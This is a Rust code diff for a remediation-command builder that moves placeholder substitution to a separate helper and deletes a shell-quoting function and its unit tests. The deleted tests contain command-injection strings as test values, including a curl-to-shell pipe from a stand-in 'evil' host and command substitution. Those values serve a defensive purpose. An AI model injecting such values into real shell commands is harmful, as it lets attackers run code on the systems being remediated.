@@ -225,38 +225,9 @@ impl Rule {
         region: &str,
         resource_id: &str,
     ) -> Option<String> {
-        self.remediation.command.as_ref().map(|c| {
-            c.replace("{account_id}", &shell_word(account_id))
-                .replace("{region}", &shell_word(region))
-                .replace("{resource_id}", &shell_word(resource_id))
-        })
-    }
-}
-
-/// `value` as one inert POSIX shell word.
-fn shell_word(value: &str) -> String {
-    let plain = !value.is_empty()
-        && value
-            .chars()
-            .all(|c| c.is_ascii_alphanumeric() || "-_.:/@=+,%".contains(c));
-    if plain {
-        value.to_string()
-    } else {
-        format!("'{}'", value.replace('\'', "'\\''"))
-    }
-}
-
-#[cfg(test)]
-mod shell_word_tests {
-    use super::shell_word;
-
-    #[test]
-    fn ids_stay_as_they_are_and_anything_else_is_one_inert_word() {
-        assert_eq!(shell_word("ami-0a1b2c3d"), "ami-0a1b2c3d");
-        assert_eq!(shell_word("/golden/al2023/latest"), "/golden/al2023/latest");
-        assert_eq!(shell_word("x; curl evil|sh"), "'x; curl evil|sh'");
-        assert_eq!(shell_word("$(id)`id`"), "'$(id)`id`'");
-        assert_eq!(shell_word("it's"), "'it'\\''s'");
-        assert_eq!(shell_word(""), "''");
+        self.remediation
+            .command
+            .as_ref()
+            .map(|c| crate::text::fill_command(c, account_id, region, resource_id))
     }
 }
